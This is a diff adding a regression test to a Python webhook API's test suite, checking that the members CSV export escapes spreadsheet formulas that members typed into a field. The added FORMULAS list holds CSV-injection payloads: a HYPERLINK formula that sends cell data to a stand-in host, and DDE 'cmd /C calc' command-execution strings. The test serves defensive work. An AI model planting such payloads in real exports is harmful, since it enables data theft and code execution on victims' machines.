@@ -5,7 +5,7 @@ from __future__ import annotations
 import csv
 import io
 
-from sqlalchemy import func, select
+from sqlalchemy import func, select, update
 
 from bot.storage.models import AuditEntry, Contact, Conversation, Delivery, Inbound
 from tests.webhook.api.conftest import PHONE, SECRET_TEXT
@@ -128,3 +128,26 @@ async def test_the_members_api_wants_credentials(api):
         response = await api.call(None, method, path)
         assert response.status_code == 401, (path, response.text)
         assert response.headers["www-authenticate"] == "Bearer"
+
+
+FORMULAS = (
+    '=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+)
+
+
+async def test_the_csv_export_keeps_formulas_that_members_typed_as_text(api):
+    for formula in FORMULAS:
+        async with api.service.db.session() as session, session.begin():
+            await session.execute(
+                update(Contact).where(Contact.id == api.members["ro"]).values(organisation=formula)
+            )
+        for who, path in (("admin", "/api/members.csv"), ("viewer", "/api/members.csv?country=RO")):
+            response = await api.call(who, "GET", path)
+            rows = {r["id"]: r for r in csv.DictReader(io.StringIO(response.text))}
+            cell = rows[str(api.members["ro"])]["organisation"]
+            assert cell == "'" + formula, (formula, cell)
